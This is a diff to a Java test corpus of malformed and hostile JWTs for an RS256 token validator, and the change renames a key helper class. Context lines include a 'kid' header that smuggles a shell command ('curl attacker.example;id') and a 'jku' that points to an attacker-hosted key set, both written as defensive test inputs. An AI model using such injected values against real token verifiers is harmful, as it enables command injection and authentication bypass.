@@ -74,7 +74,7 @@ public final class BadTokenCorpus {
 
     private BadTokenCorpus() {}
 
-    /** A fresh RSA key pair of 2048 bits (plain JCA, no PemKeys). */
+    /** A fresh RSA key pair of 2048 bits (plain JCA, no RsaKeys). */
     public static KeyPair newKeyPair() {
         return newKeyPair(2048);
     }
@@ -190,7 +190,7 @@ public final class BadTokenCorpus {
         cases.add(new Case("kid command injection", rs256("{\"alg\":\"RS256\",\"kid\":\"key.pem|curl attacker.example;id\"}", payload, evil), UNKNOWN_KEY));
         cases.add(new Case("kid unknown, signed by the trusted key", rs256("{\"alg\":\"RS256\",\"kid\":\"some-other-key\"}", payload, good), UNKNOWN_KEY));
         cases.add(new Case("kid as a number", rs256("{\"alg\":\"RS256\",\"kid\":1}", payload, good), MALFORMED));
-        cases.add(new Case("kid naming the trusted key, signed by the attacker", rs256("{\"alg\":\"RS256\",\"kid\":\"" + PemKeys.thumbprint(trustedPublic) + "\"}", payload, evil), BAD_SIGNATURE));
+        cases.add(new Case("kid naming the trusted key, signed by the attacker", rs256("{\"alg\":\"RS256\",\"kid\":\"" + RsaKeys.thumbprint(trustedPublic) + "\"}", payload, evil), BAD_SIGNATURE));
 
         // --- crit and other header extensions ---
         cases.add(new Case("crit naming exp", rs256("{\"alg\":\"RS256\",\"crit\":[\"exp\"],\"exp\":1}", payload, good), UNSUPPORTED_CRITICAL_HEADER));
@@ -275,7 +275,7 @@ public final class BadTokenCorpus {
         valid.add(new Valid("Jamf form, 1 minute", rs256(JAMF_HEADER, jamfPayload(clock, 60), good)));
         valid.add(new Valid("expired 30 s ago, within the 60 s skew", rs256(JAMF_HEADER, jamfPayload(clock, -30), good)));
         valid.add(new Valid("typ JWT in the header", rs256("{\"alg\":\"RS256\",\"typ\":\"JWT\"}", payload, good)));
-        valid.add(new Valid("kid = RFC 7638 thumbprint of the trusted key", rs256("{\"alg\":\"RS256\",\"kid\":\"" + PemKeys.thumbprint((RSAPublicKey) trusted.getPublic()) + "\"}", payload, good)));
+        valid.add(new Valid("kid = RFC 7638 thumbprint of the trusted key", rs256("{\"alg\":\"RS256\",\"kid\":\"" + RsaKeys.thumbprint((RSAPublicKey) trusted.getPublic()) + "\"}", payload, good)));
         valid.add(new Valid("jku present but ignored (signed by the trusted key)", rs256("{\"alg\":\"RS256\",\"jku\":\"https://attacker.example/jwks.json\"}", payload, good)));
         valid.add(new Valid("claims in another order, with whitespace", rs256(JAMF_HEADER, "{ \"exp\" : " + (now + 300) + ",\n\t\"iss\" : \"JSS\", \"sub\" : \"AppManifest\" }", good)));
         valid.add(new Valid("escaped but equal sub (\\u0041ppManifest)", rs256(JAMF_HEADER, "{\"sub\":\"\\u0041ppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + "}", good)));
